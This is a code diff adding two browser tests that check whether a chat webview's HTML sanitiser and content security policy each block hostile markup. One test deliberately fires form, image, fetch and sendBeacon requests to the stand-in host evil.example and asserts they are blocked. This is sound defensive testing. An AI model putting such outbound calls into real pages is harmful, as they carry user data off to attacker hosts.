@@ -1,3 +1,4 @@
+import { build } from 'esbuild';
 import type { Browser } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { launchChromium } from '../support/browser';
@@ -117,6 +118,44 @@ describe('hostile output', () => {
     await chat.close();
   });
 
+  it('is stopped by the sanitiser alone, should HTML ever get past the renderer', async () => {
+    const chat = await ChatTestPage.open(browser, { ...files, script: await bundleSanitizer() });
+    for (const text of CORPUS) {
+      await chat.page.evaluate((html) => {
+        const { sanitize } = window as unknown as { sanitize: (html: string) => DocumentFragment };
+        document.body.append(sanitize(html));
+      }, text);
+    }
+    await chat.page.waitForTimeout(300);
+    expect(await chat.page.evaluate(() => 'hacked' in window)).toBe(false);
+    expect(await chat.page.evaluate(findForbidden)).toEqual([]);
+    expect(chat.strayRequests).toEqual([]);
+    await chat.close();
+  });
+
+  it('is stopped by the content security policy alone, should an element ever get past the sanitiser', async () => {
+    const chat = await ChatTestPage.open(browser, files);
+    await chat.page.evaluate(
+      (corpus) => {
+        for (const html of corpus)
+          document.body.append(document.createRange().createContextualFragment(html));
+        const form = document.createElement('form');
+        form.action = 'https://evil.example/form';
+        document.body.append(form);
+        form.submit();
+        new Image().src = 'https://evil.example/image';
+        fetch('https://evil.example/fetch').catch(() => {});
+        navigator.sendBeacon('https://evil.example/beacon');
+      },
+      CORPUS.filter((text) => !text.includes('http-equiv=refresh')),
+    );
+    await chat.page.waitForTimeout(500);
+    expect(await chat.page.evaluate(() => 'hacked' in window)).toBe(false);
+    expect(chat.strayRequests.filter((url) => url.includes('evil.example'))).toEqual([]);
+    expect(chat.problems.join('\n')).toContain('Content Security Policy');
+    await chat.close();
+  });
+
   it('shows raw HTML as text and names the host of a link and of an image', async () => {
     const text =
       '<b>bold</b> [docs](https://example.com/a) ![chart](https://images.example/b.png) https://plain.example/';
@@ -171,6 +210,18 @@ describe('hostile output', () => {
     await chat.close();
   });
 });
+
+/** A page that is nothing but the sanitiser. */
+async function bundleSanitizer(): Promise<string> {
+  const contents = `import { sanitize } from './src/webview/markdown/blockRenderer'; window.sanitize = sanitize;`;
+  const { outputFiles } = await build({
+    stdin: { contents, resolveDir: process.cwd() },
+    bundle: true,
+    write: false,
+    platform: 'browser',
+  });
+  return outputFiles[0]?.text ?? '';
+}
 
 /** Everything on the page that could load, run or lead somewhere, apart from the page's own script and style. */
 function findForbidden(): string[] {
